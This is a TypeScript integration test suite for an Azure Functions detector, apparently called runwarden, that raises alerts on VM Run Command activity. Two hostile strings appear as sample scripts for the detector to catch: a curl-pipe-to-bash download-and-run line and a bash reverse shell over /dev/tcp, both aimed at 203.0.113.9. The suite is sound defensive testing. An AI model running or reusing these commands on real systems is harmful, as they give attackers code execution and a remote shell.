import { setTimeout as sleep } from 'node:timers/promises'
import type { FunctionsHost, InvocationResult } from '../../emulators/functions-host'
import type { Mail } from '../../emulators/mailbox'
import {
  activityLogRecord,
  message,
  processEvent,
  signInRecord,
  stages,
  uuid,
  vmId,
  type RecordOptions,
} from '../../support/azure-events'
import { ENDPOINT_HUB, startAzureWorld, type AzureWorld } from '../../support/azure-world'

const RUN_COMMAND = 'Microsoft.Compute/virtualMachines/runCommands/write'
const SCRIPT = 'curl -s http://203.0.113.9/setup.sh | bash'

let world: AzureWorld
let persons = 100

beforeAll(async () => {
  world = await startAzureWorld()
})
afterAll(() => world.stop())
afterEach(async () => {
  for (const plan of Object.values(world.faults)) plan.up()
  await world.alerts.read()
})

/** Somebody nobody has seen, so that no test meets another's ledger. */
const somebody = (): Required<Pick<RecordOptions, 'person' | 'user' | 'correlationId' | 'resourceId'>> => {
  const person = ++persons
  return { person, user: `user${person}@example.com`, correlationId: uuid(person), resourceId: vmId(`vm-${person}`) }
}

/** A managed run command whose script Azure Resource Manager knows. */
const readable = (options: ReturnType<typeof somebody>, script = SCRIPT) => {
  const resourceId = `${options.resourceId}/runCommands/update`
  world.arm.resources.set(resourceId.toLowerCase(), { properties: { source: { script } } })
  return { ...options, operation: RUN_COMMAND, resourceId }
}

const take = async (
  messages: readonly unknown[],
  retryCount = 0,
  host: FunctionsHost = world.app,
): Promise<InvocationResult> => host.invokeEventHub('activityLog', messages, { retryCount, maxRetryCount: 5 })

const taken = async (...messages: readonly unknown[]): Promise<void> =>
  expect(await take(messages)).toMatchObject({ ok: true })

/** Mails that have come, of which there must be this many. */
const mails = async (count: number): Promise<readonly Mail[]> => {
  const found = await world.alerts.read({ atLeast: count })
  expect(found.map(({ subject }) => subject)).toHaveLength(count)
  return found
}

const idIn = ({ body }: Mail): string => /^Alert ([0-9a-f]{32})$/m.exec(body)?.[1] ?? ''

describe('the functions', () => {
  it('are registered as the host will see them', () => {
    const seen = world.app
      .functions()
      .map(({ name, bindings, retryOptions }) => ({ name, trigger: Object.values(bindings)[0], retryOptions }))
    const retryOptions = {
      maxRetryCount: 5,
      retryStrategy: 'exponentialBackoff',
      minimumInterval: { seconds: 5 },
      maximumInterval: { minutes: 1 },
    }
    const trigger = {
      type: 'eventHubTrigger',
      direction: 'in',
      connection: 'EventHubConnection',
      consumerGroup: 'runwarden',
      cardinality: 'many',
    }
    expect(seen).toMatchObject([
      {
        name: 'activityLog',
        trigger: { ...trigger, eventHubName: '%ACTIVITY_HUB_NAME%' },
        retryOptions: { maxRetryCount: retryOptions.maxRetryCount, retryStrategy: retryOptions.retryStrategy },
      },
      {
        name: 'endpoint',
        trigger: { ...trigger, eventHubName: '%ENDPOINT_HUB_NAME%' },
        retryOptions: { maxRetryCount: 5 },
      },
      { name: 'heartbeat', trigger: { type: 'timerTrigger', schedule: '0 */5 * * * *' } },
    ])
  })
})

describe('a story', () => {
  it('goes in at the hub and comes out as this mail', async () => {
    const who = {
      ...somebody(),
      person: 11,
      user: 'alice@example.com',
      correlationId: uuid(0xa1),
      resourceId: vmId('vm-web-01'),
    }
    const trigger = await world.trigger()
    await world.produce([message(signInRecord(), ...stages(readable(who)))])
    const [mail] = await mails(1)
    await trigger.stop()
    expect(`Subject: ${mail?.subject ?? ''}\n\n${mail?.body ?? ''}`).toMatchSnapshot()
    expect(mail?.attributes).toMatchObject({ severity: 'high', cloud: 'azure', kind: 'alert', account: uuid(1) })
    expect(await world.blobs('alerts')).toMatchObject([
      {
        name: `${idIn(mail!)}/alert-2026-03-02T100000.123Z.json`,
        content: { schema: 'runwarden.alert/1', id: idIn(mail!), severity: 'high' },
      },
    ])
    expect(world.sts.calls).toMatchObject([{ operation: 'sts:AssumeRoleWithWebIdentity' }])
  })

  it('is counted in one line an invocation, under the names that the workbook sums up', async () => {
    await taken(message(signInRecord(), activityLogRecord(somebody())))
    await mails(1)
    const lines = world.app.logs().map(({ message: text }) => JSON.parse(text) as Record<string, unknown>)
    expect(lines.findLast(({ event }) => event === 'Run')).toMatchObject({
      function: 'activityLog',
      attempt: 0,
      RecordsReceived: 2,
      RecordsIgnored: 1,
      ActivitiesEvaluated: 1,
      AlertsSent: 1,
    })
    expect(lines.findLast(({ event }) => event === 'AlertSent')).toMatchObject({
      severity: 'medium',
      title: expect.stringContaining('[MEDIUM]') as string,
    })
  })

  it('is sent to the AWS half as a trace', async () => {
    await world.digests.read()
    const who = somebody()
    await taken(message(activityLogRecord(who)))
    const [digest] = await world.digests.read({ atLeast: 1 })
    expect(JSON.parse(digest?.body ?? '')).toEqual({
      schema: 'runwarden.digest/1',
      id: expect.any(String) as string,
      at: Date.UTC(2026, 2, 2, 10, 0, 0, 123),
      human: who.user,
      address: '192.0.2.10',
      asn: null,
      family: 'command',
    })
    await mails(1)
  })

  it('goes on when the guest confirms that a command ran', async () => {
    const who = somebody()
    await taken(message(activityLogRecord(who)))
    const [first] = await mails(1)
    const trigger = await world.trigger(world.app, 'endpoint')
    await world.produce([processEvent(`vm-${who.person}`)], { hub: ENDPOINT_HUB })
    const [update] = await mails(1)
    await trigger.stop()
    expect(update?.subject).toContain('[UPDATE]')
    expect(update?.body).toContain('Run Command Confirmed')
    expect(idIn(update!)).toBe(idIn(first!))
  })
})

describe('three stages of one operation', () => {
  const orders = [
    ['in order', [0, 1, 2]],
    ['the end first', [2, 1, 0]],
    ['the Start last', [1, 2, 0]],
    ['twice each', [0, 1, 0, 2, 1, 2]],
  ] as const

  it.each(orders)('in batches of their own, %s, are one alert', async (_name, order) => {
    const records = stages(somebody())
    for (const index of order) await taken(message(records[index]))
    const found = await world.alerts.read({ atLeast: 1 })
    expect(new Set(found.map(idIn)).size).toBe(1)
    // A later stage that names the caller whom the first one lacked may alert once more, under the same id.
    expect(found.length).toBeLessThanOrEqual(order[0] === 0 ? 1 : 2)
  })

  it('on different partitions, read by two instances, are one alert', async () => {
    const records = stages(somebody())
    const triggers = await Promise.all([
      world.trigger(world.app, 'activityLog', ['0', '1']),
      world.trigger(await world.another(), 'activityLog', ['2', '3']),
    ])
    const passed = (): number => triggers.reduce((sum, trigger) => sum + trigger.passed(), 0)
    for (const [index, record] of [...records, ...records].entries())
      await world.produce([message(record)], { partitionKey: `key-${index}` })
    while (passed() < 6) await sleep(20)
    const found = await world.alerts.read({ atLeast: 1 })
    await Promise.all(triggers.map((trigger) => trigger.stop()))
    expect(new Set(found.map(idIn)).size).toBe(1)
  })

  it('under a correlation id that comes again are another activity', async () => {
    const who = readable(somebody())
    await taken(message(...stages(who)))
    const [first] = await mails(1)
    world.arm.resources.set(who.resourceId.toLowerCase(), {
      properties: { source: { script: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } },
    })
    await taken(message(activityLogRecord({ ...who, time: '2026-03-02T10:30:00.0000000Z' })))
    const [second] = await mails(1)
    expect(second?.body).toContain('/dev/tcp/')
    expect(idIn(second!)).not.toBe(idIn(first!))
  })
})

describe('poison', () => {
  it('goes to quarantine, and its neighbours are judged', async () => {
    const before = (await world.blobs('quarantine')).length
    const withoutTime = { ...activityLogRecord(somebody()), time: 'yesterday' }
    await taken('no json', message(withoutTime, 5, null), { some: 'thing' }, message(activityLogRecord(somebody())))
    await mails(1)
    const found = (await world.blobs('quarantine')).slice(before)
    expect(found).toHaveLength(5)
    expect(found.map(({ content }) => content)).toContainEqual(
      expect.objectContaining({
        schema: 'runwarden.quarantined/1',
        format: 'event-hub',
        body: withoutTime,
        reason: expect.stringContaining('time of') as string,
      }),
    )
    for (const { name } of found) expect(name).toMatch(/^\d{4}\/\d\d\/\d\d\/[0-9a-f]{32}\.json$/)
  })

  it('that comes again adds nothing', async () => {
    const poison = message({ ...activityLogRecord(somebody()), time: 'never' })
    await taken(poison)
    const once = (await world.blobs('quarantine')).length
    await taken(poison)
    expect(await world.blobs('quarantine')).toHaveLength(once)
  })
})

describe('two instances with the same batch', () => {
  it('send each alert under one id, no matter who comes first', async () => {
    const other = await world.another()
    const batch = [message(...Array.from({ length: 5 }, () => activityLogRecord(somebody())))]
    const results = await Promise.all([take(batch), take(batch, 0, other)])
    // The one that finds a claim held for too long comes again.
    for (const [index, result] of results.entries())
      if (!result.ok) expect(await take(batch, 1, index === 0 ? world.app : other)).toMatchObject({ ok: true })
    // Both own the claim, because they judge the same activities: either may be the redelivery of one that died.
    const found = await world.alerts.read({ atLeast: 5 })
    expect(new Set(found.map(idIn)).size).toBe(5)
    expect(found.length).toBeLessThanOrEqual(10)
  })

  it('lose nothing when one dies in the middle', async () => {
    const victim = await world.another()
    const batch = [message(...Array.from({ length: 8 }, () => activityLogRecord(somebody())))]
    const dying = take(batch, 0, victim)
    await world.alerts.read({ atLeast: 1 }).then((found) => expect(found.length).toBeGreaterThan(0))
    victim.kill()
    await dying
    const before = persons - 8
    expect(await take(batch)).toMatchObject({ ok: true })
    const displays = (await world.blobs('alerts')).map(
      ({ content }) => (content as { actor: { display: string } }).actor.display,
    )
    for (let person = before + 1; person <= persons; person++) expect(displays).toContain(`user${person}@example.com`)
  })
})

describe('the hub', () => {
  it('is drained once: what was checkpointed does not come again', async () => {
    const first = await world.trigger(world.app, 'endpoint')
    const lying = (): number => world.hub.events(ENDPOINT_HUB).length
    await world.produce([message(activityLogRecord(somebody())), message(signInRecord())], { hub: ENDPOINT_HUB })
    await mails(1)
    await first.stop()
    const passed = lying()
    const second = await world.trigger(world.app, 'endpoint')
    await world.produce([message(activityLogRecord(somebody()))], { hub: ENDPOINT_HUB })
    await mails(1)
    while (second.passed() < lying() - passed) await sleep(20)
    expect(second.passed()).toBe(1)
    await second.stop()
  })
})
